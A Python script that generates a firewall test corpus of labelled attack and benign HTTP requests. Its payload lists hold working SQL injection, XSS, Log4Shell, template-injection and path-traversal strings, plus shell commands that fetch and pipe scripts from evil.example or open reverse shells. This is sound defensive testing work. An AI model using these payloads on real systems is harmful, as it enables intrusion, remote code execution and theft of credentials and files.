#!/usr/bin/python3
"""gen_corpus.py - writes t/waf/attacks.jsonl and t/waf/benign.jsonl.

The corpus is this project's own: payloads of every class the rule set
covers, each placed in the query, a form body, a JSON body, a multipart
field, a header and a cookie, plain and with an evasion (double URL
encoding, case mixing, comments, entities, ...); and ordinary traffic with
tricky-but-innocent values. Deterministic: run it again and the files are
the same. `sluice waf test --summary` over them gives docs/waf.md's figures.
"""
import json
import os
import urllib.parse

HERE = os.path.dirname(os.path.abspath(__file__))
UA = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36"
BASE_HEADERS = {"Host": "shop.example", "User-Agent": UA, "Accept": "text/html,application/xhtml+xml,*/*;q=0.8",
                "Accept-Language": "en-GB,en;q=0.9"}

ATTACKS = {
    "sqli": [
        "' or '1'='1", "1 or 1=1", "admin'--", "1' and sleep(5)-- -", "-1 union select 1,2,3",
        "1 UNION ALL SELECT username,password FROM users", "' union select null,@@version#",
        "1; drop table users", "'; exec master..xp_cmdshell 'ping 10.0.0.1'--", "1' waitfor delay '0:0:5'--",
        "') or ('x'='x", "\" or \"\"=\"", "1 and extractvalue(1,concat(0x7e,(select user())))",
        "x' and updatexml(1,concat(0x7e,database()),1)-- ", "1' order by 10-- ", "' having 1=1--",
        "1'||pg_sleep(10)--", "1 and benchmark(10000000,sha1(1))", "' or username like '%admin%",
        "1' and (select count(*) from information_schema.tables)>0 --", "1 AND 1=2 UNION SELECT table_name FROM all_tables",
        "'; insert into users values('x','y')--", "1;update users set admin=1 where id=1",
        "' or 2>1 -- ", "admin' #", "1 or sleep(5)#", "'+(select load_file('/etc/passwd'))+'",
        "1' and ascii(substring((select password from users limit 1),1,1))>64--",
        "-5 union/**/select/**/1,group_concat(table_name)/**/from/**/information_schema.tables",
        "1/*!50000union*//*!50000select*/1,2", "' or true--", "1 rlike sleep(3)",
        "1)) or ((1=1", "' OR 'a'='a' -- ", "1 and 1=1", "';shutdown--",
    ],
    "xss": [
        "<script>alert(1)</script>", "<img src=x onerror=alert(document.domain)>", "<svg/onload=alert(1)>",
        "\"><script>alert(String.fromCharCode(88,83,83))</script>", "<body onload=alert('xss')>",
        "<iframe src=\"javascript:alert(1)\"></iframe>", "javascript:alert(document.cookie)",
        "<a href=\"jav&#x09;ascript:alert(1)\">click</a>", "\" onmouseover=\"alert(1)", "' onfocus=alert(1) autofocus x='",
        "<details open ontoggle=prompt(1)>", "<input autofocus onfocus=confirm(1)>", "</textarea><script>alert(1)</script>",
        "<math><a xlink:href=\"javascript:alert(1)\">x</a></math>", "<object data=\"data:text/html,<script>alert(1)</script>\">",
        "';alert(1)//", "\";alert(1);//", "<div style=\"background:url(javascript:alert(1))\">",
        "<ScRiPt>prompt(1)</sCrIpT>", "<video><source onerror=\"alert(1)\">", "<marquee onstart=alert(1)>",
        "<embed src=javascript:alert(1)>", "<base href=\"//evil.example/\">", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<img src=1 oNeRrOr=alert`1`>",
        "<form><button formaction=javascript:alert(1)>x", "%3Cscript%3Ealert(1)%3C/script%3E",
        "&lt;script&gt;alert(1)&lt;/script&gt;", "<x onclick=alert(1)>click me",
        "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e", "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    ],
    "rce": [
        ";cat /etc/passwd", "| id", "&& whoami", "`id`", "$(whoami)", "; uname -a", "|nc 10.0.0.1 4444 -e /bin/sh",
        "; wget http://evil.example/x.sh -O /tmp/x", "; curl http://evil.example/s | sh", "& ping -c 4 127.0.0.1",
        "; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "127.0.0.1; ls -la", "x;c'a't /e\"t\"c/pas\\swd",
        "cat${IFS}/etc/passwd", ";/bin/cat /etc/shadow", "| powershell -nop -c \"iex(New-Object Net.WebClient).DownloadString('http://x')\"",
        "& cmd.exe /c dir", "; python -c 'import os;os.system(\"id\")'", "; perl -e 'exec \"/bin/sh\"'",
        "$(curl -s http://evil.example)", "|| rm -rf /", "; sleep 10", "`sleep 5`", "& net user hacker P@ss /add",
        "; chmod 777 /tmp/x", "a|whoami", "; echo vulnerable", "() { :; }; /bin/bash -c 'id'",
        "; mkfifo /tmp/f; nc 10.0.0.1 4444 < /tmp/f", "& certutil -urlcache -split -f http://x/a.exe",
    ],
    "lfi": [
        "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "....//....//etc/passwd", "..%252f..%252f..%252fetc%252fpasswd", "/etc/shadow",
        "php://filter/convert.base64-encode/resource=index.php", "file:///etc/passwd", "../../../proc/self/environ",
        "..%c0%af..%c0%afetc/passwd", "/var/www/../../etc/passwd", "C:\\boot.ini", "../../.ssh/id_rsa",
        "../../../../wp-config.php", "php://input", "expect://id", "zip://shell.jpg%23payload.php",
        "phar://uploads/x.phar", "../WEB-INF/web.xml", "/.git/config", "../../../../etc/hosts%00",
    ],
    "rfi": [
        "http://10.0.0.1/shell.txt?", "http://192.168.1.5/evil.php", "https://evil.example/shell.txt?",
        "ftp://10.1.1.1/x.txt", "include('http://evil.example/x.php')", "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWzFdKTs/Pg==",
        "http://evil.example/r57.txt??", "php://filter/resource=http://evil.example/x",
    ],
    "php": [
        "<?php system($_GET['c']); ?>", "<?= `id` ?>", "phpinfo()", "system($_GET[1])",
        "eval(base64_decode('cGhwaW5mbygpOw=='))", "O:8:\"stdClass\":1:{s:1:\"a\";s:1:\"b\";}",
        "shell_exec('id')", "passthru('ls')", "preg_replace('/.*/e','system(\"id\")','')",
        "file_put_contents('x.php','<?php eval($_POST[1]);')", "assert($_REQUEST['x'])",
        "${@print(md5(1))}", "create_function('','system(\"id\");')", "call_user_func('system','id')",
    ],
    "java": [
        "${jndi:ldap://evil.example/a}", "${${lower:j}ndi:${lower:l}dap://x/a}", "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}",
        "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}",
        "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
        "T(java.lang.Runtime).getRuntime().exec('id')", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==",
        "${env:AWS_SECRET_ACCESS_KEY}", "{{7*7}}", "{{config.items()}}", "{{''.__class__.__mro__[1].__subclasses__()}}",
        "${7*7}", "#{7*7}", "<%= 7*7 %>", "new java.lang.ProcessBuilder('id').start()",
        "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    ],
    "node": [
        "require('child_process').exec('id')", "process.mainModule.require('child_process').execSync('id')",
        "this.constructor.constructor('return process')()", "{\"__proto__\":{\"admin\":true}}",
        "global.process.exit()", "require('fs').readFileSync('/etc/passwd')",
        "new Function('return this')()", "[$ne]=1", "{\"$where\":\"sleep(1000)\"}",
    ],
}

# Headers and methods that are attacks by themselves.
STANDALONE = [
    ("scanner", {"method": "GET", "path": "/", "headers": {**BASE_HEADERS, "User-Agent": "sqlmap/1.7.2#stable (https://sqlmap.org)"}}),
    ("scanner", {"method": "GET", "path": "/admin", "headers": {**BASE_HEADERS, "User-Agent": "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)"}}),
    ("scanner", {"method": "GET", "path": "/", "headers": {**BASE_HEADERS, "User-Agent": "Fuzz Faster U Fool v2.0"}}),
    ("scanner", {"method": "GET", "path": "/", "headers": {**BASE_HEADERS, "User-Agent": "Mozilla/5.0 (compatible; Nmap Scripting Engine)"}}),
    ("scanner", {"method": "GET", "path": "/", "headers": {**BASE_HEADERS, "User-Agent": "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"}}),
    ("scanner", {"method": "GET", "path": "/", "headers": {**BASE_HEADERS, "User-Agent": "masscan/1.3"}}),
    ("scanner", {"method": "GET", "path": "/", "headers": {**BASE_HEADERS, "User-Agent": "WPScan v3.8"}}),
    ("scanner", {"method": "GET", "path": "/", "headers": {**BASE_HEADERS, "Acunetix-Aspect": "enabled"}}),
    ("protocol", {"method": "TRACE", "path": "/", "headers": BASE_HEADERS}),
    ("protocol", {"method": "TRACK", "path": "/", "headers": BASE_HEADERS}),
    ("protocol", {"method": "PROPFIND", "path": "/", "headers": BASE_HEADERS}),
    ("protocol", {"method": "POST", "path": "/api", "headers": {**BASE_HEADERS, "Content-Type": "application/x-evil"}, "body": "x"}),
    ("protocol", {"method": "POST", "path": "/api", "headers": {**BASE_HEADERS, "Content-Type": "application/json"}, "body": "{\"a\": 1,,}"}),
    ("protocol", {"method": "POST", "path": "/up", "headers": {**BASE_HEADERS, "Content-Type": "multipart/form-data; boundary=zz"}, "body": "--zz\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nno end"}),
    ("protocol", {"method": "GET", "path": "/?a=%0d%0aSet-Cookie:%20x=1", "headers": BASE_HEADERS}),
    ("protocol", {"method": "GET", "path": "/?file=a%00.jpg", "headers": BASE_HEADERS}),
    ("protocol", {"method": "GET", "path": "/", "headers": {**BASE_HEADERS, "User-Agent": "() { :; }; echo; /bin/cat /etc/passwd"}}),
    ("php", {"method": "POST", "path": "/upload", "headers": {**BASE_HEADERS, "Content-Type": "multipart/form-data; boundary=b1"},
             "body": "--b1\r\nContent-Disposition: form-data; name=\"file\"; filename=\"shell.php\"\r\nContent-Type: image/png\r\n\r\n<?php ?>\r\n--b1--\r\n"}),
    ("php", {"method": "POST", "path": "/upload", "headers": {**BASE_HEADERS, "Content-Type": "multipart/form-data; boundary=b1"},
             "body": "--b1\r\nContent-Disposition: form-data; name=\"file\"; filename=\"x.jpg.phtml\"\r\n\r\nGIF89a\r\n--b1--\r\n"}),
    ("lfi", {"method": "GET", "path": "/.env", "headers": BASE_HEADERS}),
    ("lfi", {"method": "GET", "path": "/static/..%2f..%2f..%2fetc/passwd", "headers": BASE_HEADERS}),
    ("node", {"method": "GET", "path": "/login?user[$ne]=x&pass[$ne]=y", "headers": BASE_HEADERS}),
    ("node", {"method": "GET", "path": "/?__proto__[isAdmin]=true", "headers": BASE_HEADERS}),
]


def q(v):
    return urllib.parse.quote(v, safe="")


def evasions(cls, p):
    """The payload as sent, and one or two evasions of it."""
    out = [("plain", p)]
    out.append(("double-encoded", q(p)))  # the argument arrives once-encoded after the first decode
    if cls == "sqli":
        out.append(("case+comments", p.replace(" ", "/**/").upper() if "'" not in p else p.replace(" ", "/**/")))
    elif cls == "xss":
        out.append(("entities", "".join("&#%d;" % ord(c) if c in "<>:" else c for c in p)))
    elif cls == "rce":
        out.append(("tabs", p.replace(" ", "\t")))
    elif cls in ("lfi", "rfi"):
        out.append(("backslashes", p.replace("/", "\\") if "://" not in p else p.upper()))
    elif cls in ("php", "java", "node"):
        out.append(("spaced", p.replace("(", " (")))
    return out


def placements(payload, i):
    """The payload in each place a request carries values (one per i, round robin plus all for plain)."""
    enc = q(payload)
    return [
        ("query", {"method": "GET", "path": "/search?q=" + enc + "&page=1", "headers": dict(BASE_HEADERS)}),
        ("form", {"method": "POST", "path": "/comment", "headers": {**BASE_HEADERS, "Content-Type": "application/x-www-form-urlencoded"},
                  "body": "name=alice&text=" + enc}),
        ("json", {"method": "POST", "path": "/api/items", "headers": {**BASE_HEADERS, "Content-Type": "application/json"},
                  "body": json.dumps({"item": {"title": payload, "qty": 2}})}),
        ("multipart", {"method": "POST", "path": "/profile", "headers": {**BASE_HEADERS, "Content-Type": "multipart/form-data; boundary=----wbk%d" % i},
                       "body": "------wbk%d\r\nContent-Disposition: form-data; name=\"bio\"\r\n\r\n%s\r\n------wbk%d--\r\n" % (i, payload, i)}),
        ("header", {"method": "GET", "path": "/", "headers": {**BASE_HEADERS, "Referer": payload if i % 2 else "https://shop.example/",
                                                               "User-Agent": UA if i % 2 else payload}}),
        ("cookie", {"method": "GET", "path": "/account", "headers": {**BASE_HEADERS, "Cookie": "theme=dark; pref=" + enc}}),
    ]


def attacks():
    rows = []
    for cls, payloads in ATTACKS.items():
        for i, p in enumerate(payloads):
            for ev_name, ev in evasions(cls, p):
                for where, req in placements(ev, i):
                    # the double-encoded form only where a value is URL-decoded (query, form, cookie)
                    if ev_name == "double-encoded" and where not in ("query", "form", "cookie"):
                        continue
                    rows.append(dict(req, expect="block", **{"class": cls, "name": "%s %s #%d in %s" % (cls, ev_name, i, where)}))
    for cls, req in STANDALONE:
        rows.append(dict(req, expect="block", **{"class": cls, "name": cls + " standalone"}))
    return rows


BENIGN_VALUES = [
    "O'Brien", "D'Angelo & Sons Ltd.", "Tom's Diner", "rock 'n' roll", "I'd like to select one item from the list",
    "Please drop me a line; update me later", "union station to 5th avenue", "1 or 2 bedrooms", "where are you from?",
    "SELECT your plan and continue", "100% cotton", "Q&A session at 3pm", "price < 20 and rating > 4",
    "C:/Users/alice/Documents/report.docx", "john.doe+tag@example.com", "+44 20 7946 0958", "12 Main St., Apt. #4",
    "The <b>best</b> pizza in town", "x = y + 1", "https://www.example.com/path?ref=abc", "It's 5 o'clock somewhere",
    "café crème brûlée", "こんにちは世界", "Привет, мир", "#hashtag @mention", "a--b", "tl;dr: it works",
    "don't stop believin'", "version 2.0 (beta)", "eval results for Q3", "select * from our catalogue? sure",
    "sleep well and rest", "my password is hunter2", "The script was great, the actors too", "onboarding=done",
    "alert level: high", "1; 2; 3", "ls -la is a command I use", "cat lovers unite", "SGVsbG8sIHdvcmxkIQ==",
    "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
    "Lorem ipsum dolor sit amet, consectetur adipiscing elit; sed do eiusmod tempor.", "50/50 split", "and/or",
    "The Union's annual report (2023)", "mother-in-law", "e=mc^2", "TODO: fix it -- later", "a || b",
    "Me & you", "<3", "3 > 2", "New York, NY", "O'Reilly Media", "Ain't no mountain high enough",
"../ is the parent folder in Unix paths",
]

CODE_SNIPPETS = [
    "def add(a, b):\n    return a + b\n", "for (let i = 0; i < n; i++) { total += i; }",
    "SELECT name, email FROM users WHERE id = ?", "console.log('hello world');",
    "if (x > 0 && y < 10) { return true; }", "import os\nprint(os.getcwd())",
    "<div class=\"card\">Hello</div>", "git commit -m 'fix bug'", "npm install --save express",
    "const user = await db.users.findOne({ id });", "#include <stdio.h>\nint main(void) { return 0; }",
    "docker run -p 8080:80 nginx", "UPDATE: the meeting moved to 3pm", "function greet(name) { return `Hi ${name}`; }",
]


def benign():
    rows = []
    for i, v in enumerate(BENIGN_VALUES):
        for where, req in placements(v, i):
            rows.append(dict(req, expect="pass", **{"class": "benign", "name": "benign value #%d in %s" % (i, where)}))
    for i, code in enumerate(CODE_SNIPPETS):
        rows.append({"method": "POST", "path": "/api/snippets", "headers": {**BASE_HEADERS, "Content-Type": "application/json"},
                     "body": json.dumps({"title": "snippet %d" % i, "language": "text", "code": code}),
                     "expect": "pass", "class": "benign", "name": "code snippet #%d in JSON" % i})
    pages = ["/", "/index.html", "/static/app.3f9a1c.js", "/static/css/site.css", "/images/logo.png", "/favicon.ico",
             "/products/42", "/products?category=shoes&size=42&sort=price_asc", "/search?q=red+running+shoes",
             "/api/v1/orders?limit=20&offset=40", "/blog/2024/05/how-we-scaled", "/account/settings",
             "/cart?add=123&qty=2", "/en-gb/help/faq#returns", "/api/v2/users/me", "/robots.txt", "/sitemap.xml",
             "/search?q=C%2B%2B+tutorial", "/search?q=what+is+1%2B1", "/maps?ll=51.5074,-0.1278&z=12",
             "/download?file=report-2024.pdf", "/redirect?next=%2Faccount%2Forders", "/oauth/callback?code=4%2F0AX4XfWh&state=xyz",
             "/tags/c%23", "/wiki/Rock_%27n%27_roll", "/api/items?ids=1,2,3&fields=name,price"]
    for i, p in enumerate(pages):
        rows.append({"method": "GET", "path": p, "headers": {**BASE_HEADERS, "Cookie": "session=%032x; theme=light; consent=yes" % (i * 7919)},
                     "expect": "pass", "class": "benign", "name": "page %s" % p})
    apis = [
        ("POST", "/api/login", {"username": "alice", "password": "p@ss'w0rd\"!#;"}),
        ("POST", "/api/orders", {"items": [{"sku": "A-1", "qty": 1}, {"sku": "B-2", "qty": 3}], "note": "Leave at the door, it's fine"}),
        ("PUT", "/api/profile", {"name": "Seán O'Connor", "bio": "I love SQL and select the best tools; union member.", "age": 34}),
        ("PATCH", "/api/settings", {"notifications": True, "theme": None, "tz": "Europe/London"}),
        ("POST", "/api/upload-token", {"token": "A" * 200 + "==", "kind": "base64"}),
        ("POST", "/api/events", {"type": "click", "target": "#buy-now", "ts": 1714000000123}),
        ("POST", "/api/search", {"query": "price < 100 and brand = 'acme'", "page": 1}),
        ("POST", "/graphql", {"query": "query { user(id: 1) { name email } }", "variables": {}}),
        ("DELETE", "/api/items/42", None), ("OPTIONS", "/api/items", None), ("HEAD", "/", None),
    ]
    for method, path, body in apis:
        req = {"method": method, "path": path, "headers": {**BASE_HEADERS, "Accept": "application/json"}, "expect": "pass",
               "class": "benign", "name": "api %s %s" % (method, path)}
        if body is not None:
            req["headers"]["Content-Type"] = "application/json"
            req["body"] = json.dumps(body)
        rows.append(req)
    uploads = [("photo.jpg", "image/jpeg", "\xff\xd8\xff\xe0JFIF"), ("cv.pdf", "application/pdf", "%PDF-1.7 ..."),
               ("notes.txt", "text/plain", "Meeting notes; select the venue, drop off the keys.")]
    for i, (fn, ct, content) in enumerate(uploads):
        body = ("--BoUnDaRy\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nMy upload %d\r\n"
                "--BoUnDaRy\r\nContent-Disposition: form-data; name=\"file\"; filename=\"%s\"\r\nContent-Type: %s\r\n\r\n%s\r\n--BoUnDaRy--\r\n") % (i, fn, ct, content)
        rows.append({"method": "POST", "path": "/upload", "headers": {**BASE_HEADERS, "Content-Type": "multipart/form-data; boundary=BoUnDaRy"},
                     "body": body, "expect": "pass", "class": "benign", "name": "form upload " + fn})
    return rows


def write(name, rows):
    with open(os.path.join(HERE, name), "w", encoding="utf-8") as f:
        for r in rows:
            f.write(json.dumps(r, ensure_ascii=False) + "\n")


if __name__ == "__main__":
    write("attacks.jsonl", attacks())
    write("benign.jsonl", benign())
